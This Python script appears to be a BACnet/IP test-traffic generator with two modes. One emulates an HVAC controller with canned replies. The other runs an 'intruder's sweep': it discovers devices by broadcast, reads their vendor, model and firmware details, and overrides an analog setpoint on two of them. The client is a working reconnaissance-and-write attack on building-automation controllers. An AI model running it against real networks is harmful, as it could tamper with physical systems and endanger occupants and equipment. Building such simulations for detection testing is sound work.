#!/usr/bin/env python3
"""BACnet/IP over UDP 47808, both ends of fresh9's `f9-bacnet-sweep-write` (bounded by a duration).

  bacnet.py server ADDR INSTANCE SECONDS   a controller: answers Who-Is with I-Am, ReadProperty of its device
                                           object with canned values, WriteProperty with Simple-ACK
  bacnet.py client ADDR BCAST SECONDS      an intruder's sweep: Who-Is broadcast (3 rounds), ReadProperty of
                                           name / vendor / model / firmware / object list on each I-Am, then
                                           WriteProperty of analog-value 1's present value on two of them
"""
import socket
import struct
import sys
import time

PORT = 47808
DEV = 8
PROPS = {77: "AHU-{i} plant", 121: "Johnson Controls", 70: "FEC2611-0", 44: "10.1.3", 12: "FX 14.2", 28: "floor 3"}


def bvlc(fn, npdu_apdu):
    return struct.pack(">BBH", 0x81, fn, 4 + len(npdu_apdu)) + npdu_apdu


def objid(t, inst):
    return struct.pack(">I", (t << 22) | inst)


def charstr(s):
    b = b"\x00" + s.encode()
    return (bytes([0x75, len(b)]) if len(b) > 4 else bytes([0x70 | len(b)])) + b


def server(addr, inst, secs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("", PORT))
    end = time.time() + secs
    while time.time() < end:
        s.settimeout(max(0.1, end - time.time()))
        try:
            d, src = s.recvfrom(1500)
        except OSError:
            continue
        if len(d) < 8 or d[0] != 0x81 or src[0] == addr:
            continue
        apdu = d[6:]
        if apdu[:2] == b"\x10\x08":  # Who-Is -> I-Am (unicast)
            iam = b"\x10\x00\xc4" + objid(DEV, inst) + b"\x22\x05\xc4\x91\x03\x21\x05"
            s.sendto(bvlc(0x0A, b"\x01\x00" + iam), src)
        elif len(apdu) > 4 and apdu[0] == 0x00 and apdu[3] == 0x0C:  # ReadProperty
            inv, prop = apdu[2], apdu[10] if len(apdu) > 10 else 0
            if prop == 76:
                val = b"\xc4" + objid(DEV, inst) + b"\xc4" + objid(2, 1) + b"\xc4" + objid(0, 1) + b"\xc4" + objid(5, 2)
            else:
                val = charstr(PROPS.get(prop, "?").format(i=inst))
            ack = bytes([0x30, inv, 0x0C]) + apdu[4:11] + b"\x3e" + val + b"\x3f"
            s.sendto(bvlc(0x0A, b"\x01\x00" + ack), src)
        elif len(apdu) > 4 and apdu[0] == 0x00 and apdu[3] == 0x0F:  # WriteProperty
            s.sendto(bvlc(0x0A, b"\x01\x00" + bytes([0x20, apdu[2], 0x0F])), src)


def client(addr, bcast, secs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind((addr, PORT))
    end = time.time() + secs
    found = {}
    inv = 0

    def recv_for(t):
        stop = min(end, time.time() + t)
        out = []
        while time.time() < stop:
            s.settimeout(max(0.05, stop - time.time()))
            try:
                d, src = s.recvfrom(1500)
            except OSError:
                break
            if src[0] != addr:
                out.append((d, src))
        return out

    for _ in range(3):  # Who-Is rounds
        s.sendto(bvlc(0x0B, b"\x01\x00\x10\x08"), (bcast, PORT))
        for d, src in recv_for(3):
            if d[6:8] == b"\x10\x00":
                found[src[0]] = struct.unpack(">I", d[9:13])[0] & 0x3FFFFF
        time.sleep(2)
    for ip, inst in sorted(found.items()):
        for prop in (77, 121, 70, 44, 12, 28, 76):
            inv = (inv + 1) & 0xFF
            req = bytes([0x00, 0x05, inv, 0x0C, 0x0C]) + objid(DEV, inst) + bytes([0x19, prop])
            s.sendto(bvlc(0x0A, b"\x01\x04" + req), (ip, PORT))
            recv_for(0.6)
            if time.time() > end:
                return
        time.sleep(1)
    for ip in sorted(found)[:2]:  # a setpoint overridden at priority 8
        for v in (35.0, 38.5):
            inv = (inv + 1) & 0xFF
            req = bytes([0x00, 0x05, inv, 0x0F, 0x0C]) + objid(2, 1) + b"\x19\x55\x3e\x44" + struct.pack(">f", v)
            s.sendto(bvlc(0x0A, b"\x01\x04" + req + b"\x3f\x49\x08"), (ip, PORT))
            recv_for(1.5)
            time.sleep(3)


if __name__ == "__main__":
    mode, a, b, secs = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    server(a, int(b), secs) if mode == "server" else client(a, b, secs)
